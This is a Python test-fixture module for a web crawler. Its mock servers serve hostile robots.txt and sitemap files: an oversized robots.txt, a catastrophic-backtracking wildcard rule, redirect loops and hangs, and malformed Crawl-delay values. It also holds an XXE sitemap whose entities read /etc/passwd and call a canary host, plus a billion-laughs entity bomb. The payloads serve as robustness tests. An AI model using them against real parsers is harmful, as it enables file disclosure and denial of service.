"""Animals whose robots.txt or sitemap is the trouble."""

from __future__ import annotations

from itertools import pairwise

from .animal import CANARY, animal
from .line import Ask, html, moved, reply

KIB = 1024
NOT_READ = "sitemaps are not read yet"


def _text(body: str | bytes) -> bytes:
    return reply(200, body, "Content-Type: text/plain")


@animal(51, "robots.txt of 12 MB", "a rule at 480 KiB counts, one behind 512 KiB does not", robots=True,
        expect={"/": "done 200", "/early": "excluded robots", "/late": "done 200"})
async def robots_of_twelve_megabytes(ask: Ask) -> bytes:
    if ask.path != "/robots.txt":
        return ask.links("/early", "/late", title=ask.path)
    early = b"User-agent: *\n" + b"# padding\n" * (48 * KIB) + b"Disallow: /early\n"
    return _text(early + b"# padding\n" * (4 * KIB) + b"Disallow: /late\n" + b"# padding\n" * 1_150_000)


@animal(52, "robots.txt that explodes", "one line of wildcards that a backtracking matcher never finishes", robots=True,
        expect={"/": "done 200", "/" + "a" * 2_000: "done 200|excluded robots"})
async def robots_that_explodes(ask: Ask) -> bytes:
    if ask.path == "/robots.txt":
        return _text("User-agent: *\nDisallow: /" + "*a" * 2_000 + "*b$\n")
    return ask.links("/" + "a" * 2_000, title=ask.path[:9])


ROBOTS = {1: "503", 2: "hangs", 3: "five redirects", 4: "six redirects", 5: "404", 6: "HTML"}


@animal(53, "robots.txt of every kind", "503; hangs; five redirects; six; 404; HTML that is none", robots=True,
        hosts=tuple(f"127.53.0.{n}" for n in ROBOTS), seeds=tuple(f"http://127.53.0.{n}:{{port}}{path}" for n in ROBOTS for path in ("/", "/no")), exit_code=7,
        expect={f"http://127.53.0.{n}:{{port}}{path}": "parked|failed timeout" if n < 3 else "excluded robots" if n == 3 and path == "/no" else "done 200"
                for n in ROBOTS for path in ("/", "/no")})
async def robots_of_every_kind(ask: Ask) -> bytes | None:
    kind = int(ask.host.rpartition(".")[2])
    if ask.path in ("/", "/no"):
        return ask.page(f"{ask.host}{ask.path}")
    hops = len(ask.path) - len("/robots.txt")
    if kind in (3, 4) and hops < kind + 2:
        return moved(f"{ask.path}x")
    if kind == 2:
        await ask.hang()
        return None
    return {1: reply(503), 5: reply(404), 6: reply(200, html("/no"), "Content-Type: text/html")}.get(kind) or _text("User-agent: *\nDisallow: /no\n")


DELAYS = {1: "1" + "0" * 20, 2: "inf", 3: "-1", 4: "0.5", 5: "NaN"}


def _delay_kept(cage, seen) -> None:
    moments = [one.moment for one in cage.heard if one.host == "127.54.0.4" and one.path != "/robots.txt"]
    assert len(moments) == 3
    assert all(later - earlier >= 0.45 for earlier, later in pairwise(moments)), moments


@animal(54, "Crawl-delay of every kind", "10^20 parks; inf, -1 and NaN are nothing; half a second is kept", robots=True, check=_delay_kept, exit_code=7,
        hosts=tuple(f"127.54.0.{n}" for n in DELAYS), seeds=tuple(f"http://127.54.0.{n}:{{port}}/{page}" for n in DELAYS for page in range(3)),
        expect={f"http://127.54.0.{n}:{{port}}/{page}": "parked" if n == 1 else "done 200" for n in DELAYS for page in range(3)})
async def crawl_delay_of_every_kind(ask: Ask) -> bytes:
    if ask.path != "/robots.txt":
        return ask.page(f"{ask.host}{ask.path}")
    return _text(f"User-agent: *\nCrawl-delay: {DELAYS[int(ask.host.rpartition('.')[2])]}\n")


def _only_the_page(cage, seen) -> None:
    assert cage.paths == ["/"]


async def _with_sitemap(ask: Ask, text: str) -> bytes:
    if ask.path == "/robots.txt":
        return _text(f"Sitemap: http://{ask.host}:{ask.port}/sitemap.xml\n")
    if ask.path == "/":
        return ask.page(f"see the sitemap of {ask.host}")
    return reply(200, text, "Content-Type: application/xml")


@animal(55, "sitemap with entities", "entities that read a file and ask the canary", expect="done 200", robots=True, later=NOT_READ, check=_only_the_page)
async def sitemap_with_entities(ask: Ask) -> bytes:
    return await _with_sitemap(ask, f'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY c SYSTEM "http://{CANARY}:{ask.port}/">]>'
                               "<urlset><url><loc>http://127.44.0.55/&f;&c;</loc></url></urlset>")  # fmt: skip


@animal(56, "a billion laughs", "entities of entities of entities", expect="done 200", robots=True, later=NOT_READ, check=_only_the_page)
async def a_billion_laughs(ask: Ask) -> bytes:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return await _with_sitemap(ask, f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]><urlset><url><loc>&l9;</loc></url></urlset>')


@animal(57, "sitemap of itself", "a sitemap index that names itself, and ten below each other", expect="done 200", robots=True, later=NOT_READ, check=_only_the_page)
async def sitemap_of_itself(ask: Ask) -> bytes:
    n = len(ask.cage.paths)
    names = (f"http://{ask.host}:{ask.port}/{name}" for name in ("sitemap.xml", f"deeper-{n}.xml"))
    return await _with_sitemap(ask, "<sitemapindex>" + "".join(f"<sitemap><loc>{name}</loc></sitemap>" for name in names) + "</sitemapindex>")
